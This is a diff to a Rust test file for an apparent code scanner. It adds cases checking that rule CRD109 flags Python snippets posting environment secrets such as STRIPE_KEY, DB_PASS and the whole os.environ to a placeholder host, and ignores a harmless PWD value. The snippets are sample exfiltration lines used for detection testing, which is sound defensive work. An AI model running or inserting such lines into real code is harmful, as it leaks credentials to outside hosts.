@@ -384,6 +384,16 @@ fn secrets_in_a_requests_body_or_the_whole_environment_anywhere_are_exfiltration
         "CRD109",
         "import os, requests\nrequests.get('https://h.example/p', params=dict(os.environ))\n",
     );
+    for name in ["STRIPE_KEY", "DB_PASS", "SENTRY_DSN", "DATABASE_URL"] {
+        fires(
+            "CRD109",
+            &format!("import os, requests\nv = os.getenv('{name}')\nrequests.post('https://h.example/c', data=v)\n"),
+        );
+    }
+    silent(
+        "CRD109",
+        "import os, requests\nrequests.post('https://h.example/c', data=os.getenv('PWD'))\n",
+    );
     fires(
         "CRD109",
         "import os, urllib.request\nreq = urllib.request.Request('https://h.example/u', data=str(os.environ).encode())\nurllib.request.urlopen(req)\n",
